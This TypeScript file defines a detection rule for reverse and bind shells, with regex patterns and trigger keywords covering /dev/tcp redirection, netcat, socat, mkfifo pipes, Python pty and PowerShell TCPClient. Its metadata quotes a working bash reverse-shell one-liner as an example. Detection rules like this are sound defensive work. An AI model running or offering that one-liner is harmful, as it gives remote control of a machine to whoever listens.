import { defineRegexRule } from '../regex-rule';

export const rceReverseShellRule = defineRegexRule({
  meta: {
    id: 'BW-RCE-003',
    title: 'Reverse or bind shell',
    category: 'remote_code_execution',
    severity: 'critical',
    confidence: 'high',
    asset_type: 'instructions',
    shows_intent: true,
    hard_block: true,
    rationale:
      'Connecting an interactive shell to a remote socket (/dev/tcp redirection, nc -e, socat exec, Python/Node socket + pty/subprocess) hands the machine to whoever listens.',
    example: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
  },
  triggers: ['/dev/tcp', '/dev/udp', 'nc', 'ncat', 'netcat', 'socat', 'mkfifo', 'dup2', 'pty.spawn', 'subprocess', 'child_process', 'net.socket', 'tcpclient'],
  patterns: [
    /\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/,
    /\b(?:nc|ncat|netcat)\b[^\n]{0,60}\s-[a-z]{0,3}[ec]\s{0,3}["']?\/?(?:bin\/)?(?:ba|z)?sh\b/i,
    /\bsocat\b[^\n]{0,80}\bexec:[^\n]{0,40}(?:sh|bash)\b/i,
    /\bmkfifo\b[^\n]{0,80}\|\s{0,3}(?:\/bin\/)?(?:ba)?sh\b[^\n]{0,80}\|\s{0,3}(?:nc|ncat|netcat)\b/i,
    /os\.dup2\([^\n]{0,60}fileno\(\)[^\n]{0,200}(?:pty\.spawn|subprocess\.call|\/bin\/(?:ba)?sh)/,
    /\b(?:pty\.spawn|subprocess\.(?:call|Popen|run))\(\s{0,3}\[?\s{0,3}["']\/bin\/(?:ba)?sh["'][^\n]{0,40}(?:-i)?/,
    /child_process[^\n]{0,80}spawn\(\s{0,3}["']\/bin\/(?:ba)?sh["'][^\n]{0,200}\bnet\b|net\.Socket\(\)[^\n]{0,300}spawn\(\s{0,3}["'](?:\/bin\/)?(?:ba)?sh/,
    /New-Object\s{1,3}System\.Net\.Sockets\.TCPClient\(/i,
  ],
  views: ['raw', 'normalized', 'hidden', 'decoded'],
});
